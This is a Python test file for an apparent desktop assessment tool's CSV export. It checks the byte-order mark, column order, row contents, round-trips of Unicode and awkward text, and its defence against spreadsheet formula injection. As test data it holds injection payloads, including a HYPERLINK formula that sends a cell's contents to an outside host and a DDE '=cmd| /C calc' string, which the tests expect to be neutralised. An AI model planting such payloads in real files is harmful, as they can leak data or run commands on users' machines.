"""CSV export: one row per question, readable in Excel (issue 4, item 6)."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scrutiny_desktop.checklist import load_template
from scrutiny_desktop.report.csvout import FORMULA_STARTS, export_csv, text_cell
from scrutiny_desktop.services import answers, evidence, recommendations, signoff
from scrutiny_desktop.services.assessments import NewAssessment, create_assessment, open_assessment
from tests.helpers import copy_document, legacy_template, scrutineer_id

BOM = b"\xef\xbb\xbf"
AWKWARD_FINDINGS = 'Commas, "double quotes", and\nnew lines;\n\n"quoted, with comma"\tand a tab'
ACCENTS = "Siân Llŷr — Zażółć gęślą jaźń — Ελληνικά — Русский — café naïve"


def read_rows(path: Path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def by_id(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    return {r[header.index("Question ID")]: dict(zip(header, r, strict=True)) for r in rows[1:]}


def test_csv_starts_with_a_byte_order_mark_and_a_header(doc, tmp_path):
    """The CSV begins with a UTF-8 byte-order mark (for Excel) and a header row naming the columns."""
    out = export_csv(doc, tmp_path / "out.csv")
    raw = out.read_bytes()
    assert raw.startswith(BOM)
    assert not raw[3:].startswith(BOM)
    header = read_rows(out)[0]
    wanted = ["Section", "Question ID", "Question", "Judgement", "Findings", "Evidence count",
              "Recommendation count"]
    positions = [header.index(name) for name in wanted]
    assert positions == sorted(positions), header


def test_one_row_per_question_in_checklist_order(doc, tmp_path, cis):
    """There is one row for every question in the checklist, in order, with its section and wording."""
    rows = read_rows(export_csv(doc, tmp_path / "out.csv"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(cis.question_ids())
    assert all(len(r) == len(header) for r in body)
    assert [r[header.index("Question ID")] for r in body] == cis.question_ids()
    for row, (section, question) in zip(body, cis.questions(), strict=True):
        assert row[header.index("Section")] == section.title
        assert row[header.index("Question")] == question.text


def test_rows_carry_judgement_findings_and_counts(doc, tmp_path, cis):
    """Each row shows the judgement, the findings as typed, and the evidence and recommendation counts."""
    answers.set_judgement(doc, "ARR-01", "limited")
    answers.set_findings(doc, "ARR-01", AWKWARD_FINDINGS)
    evidence.add_evidence(doc, "ARR-01", evidence.EvidenceInput("Minutes, 3 May"))
    evidence.add_evidence(doc, "ARR-01", evidence.EvidenceInput('"Dashboard"'))
    recommendations.add_recommendation(doc, "ARR-01", recommendations.RecommendationInput("Act"))
    rows = by_id(read_rows(export_csv(doc, tmp_path / "out.csv")))
    row = rows["ARR-01"]
    assert row["Judgement"] == cis.judgement_label("limited")
    assert row["Findings"] == AWKWARD_FINDINGS
    assert row["Evidence count"] == "2"
    assert row["Recommendation count"] == "1"
    untouched = rows["ARR-02"]
    assert untouched["Judgement"] == ""
    assert untouched["Findings"] == ""
    assert untouched["Evidence count"] == "0" and untouched["Recommendation count"] == "0"


def test_accents_and_other_scripts_read_back_exactly(doc, tmp_path):
    """Welsh, Polish, Greek and Cyrillic text reads back exactly when decoded as UTF-8 with BOM."""
    answers.set_findings(doc, "ARR-02", ACCENTS)
    out = export_csv(doc, tmp_path / "out.csv")
    assert ACCENTS in out.read_bytes().decode("utf-8-sig")
    assert by_id(read_rows(out))["ARR-02"]["Findings"] == ACCENTS


def test_csv_of_a_signed_off_document(doc, tmp_path, cis):
    """A signed-off document opened read-only exports to CSV with every judgement, untouched."""
    for qid in cis.question_ids():
        answers.set_judgement(doc, qid, "strong")
    signoff.sign_off(doc, identity=scrutineer_id(),
                     name="Ann Jones", role="", statement="I confirm.", confirmed=True)
    before = doc.path.read_bytes()
    with open_assessment(doc.path, readonly=True) as ro:
        rows = by_id(read_rows(export_csv(ro, tmp_path / "signed.csv")))
    assert len(rows) == len(cis.question_ids())
    assert {r["Judgement"] for r in rows.values()} == {cis.judgement_label("strong")}
    assert doc.path.read_bytes() == before


# -- formula injection (OWASP "CSV Injection") -----------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\tTabbed =1"]


def test_findings_that_look_like_formulas_get_a_leading_quote(doc, tmp_path):
    """Findings a spreadsheet would run as a formula are written with a leading ' (as text)."""
    qids = ["ARR-01", "ARR-02", "ARR-03", "LEAD-01", "LEAD-02"]
    for qid, text in zip(qids, FORMULAS, strict=True):
        answers.set_findings(doc, qid, text)
    answers.set_findings(doc, "LEAD-04", "Safe = fine; not -a formula")
    rows = by_id(read_rows(export_csv(doc, tmp_path / "out.csv")))
    for qid, text in zip(qids, FORMULAS, strict=True):
        assert rows[qid]["Findings"] == "'" + text, qid
    assert rows["LEAD-04"]["Findings"] == "Safe = fine; not -a formula"
    # (stored findings never start with a carriage return: it becomes a new line)
    assert text_cell("\r=1+1") == "'\r=1+1"
    assert text_cell("") == "" and text_cell(" =1") == " =1"


def test_template_text_that_looks_like_a_formula_gets_a_leading_quote(tmp_path):
    """Section titles, question text and judgement labels come from a template file, which
    may be hostile too; the id, Yes/No and the counts are written as they are."""
    text = (Path(__file__).parent / "fixtures" / "mini.toml").read_text(encoding="utf-8")
    for old, new in (('title = "Section one"', 'title = "=cmd|\' /C calc\'!A0"'),
                     ('text = "First question?"', 'text = "-1 first question?"'),
                     ('label = "Yes"', 'label = "+ Yes"'),
                     ('label = "No"', 'label = "@No"')):
        assert old in text
        text = text.replace(old, new, 1)
    (tmp_path / "hostile.toml").write_text(text, encoding="utf-8")
    template = load_template(tmp_path / "hostile.toml")
    path = create_assessment(tmp_path / "hostile.scrutiny", template,
                             NewAssessment("Northshire", "2025-26", "Ann Jones"))
    with open_assessment(path) as d:
        answers.set_judgement(d, "Q1", "yes")
        answers.set_judgement(d, "Q2", "no")
        answers.set_judgement(d, "Q3", "pending")
        rows = by_id(read_rows(export_csv(d, tmp_path / "out.csv")))
    assert rows["Q1"]["Section"] == "'=cmd|' /C calc'!A0"
    assert rows["Q1"]["Question"] == "'-1 first question?"
    assert rows["Q1"]["Judgement"] == "'+ Yes"
    assert rows["Q2"]["Judgement"] == "'@No"
    assert rows["Q2"]["Question"] == "Second question?"
    assert rows["Q3"] == {"Section": "Section two", "Question ID": "Q3", "Question": "Third question?",
                          "Required": "Yes", "Judgement": "Not yet", "Findings": "",
                          "Evidence count": "0", "Recommendation count": "0"}


def expected_findings(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


_TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\r\x00"),
                max_size=200)
_AWKWARD = st.lists(st.sampled_from([",", '"', "\n", "\n\n", " ", "'", ";", "\t", "é", "ŵ",
                                     "=SUM(A1)", "+", "-", "@", "😀", "a", "Z"]),
                    max_size=30).map("".join)


@settings(max_examples=15, derandomize=True, database=None, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(findings=st.one_of(_TEXT, _AWKWARD))
def test_any_findings_survive_a_csv_round_trip(pristine, tmp_path, findings):
    """Whatever findings hold (commas, quotes, new lines, any script), a CSV reader gets them back
    (with a leading ' if they would start a formula)."""
    with tempfile.TemporaryDirectory(dir=tmp_path) as folder:
        path = copy_document(pristine, Path(folder))
        with open_assessment(path) as doc:
            answers.set_findings(doc, "ARR-03", findings)
            rows = read_rows(export_csv(doc, Path(folder) / "out.csv"))
    assert len(rows) == 1 + len(legacy_template().question_ids())
    assert by_id(rows)["ARR-03"]["Findings"] == expected_findings(findings)
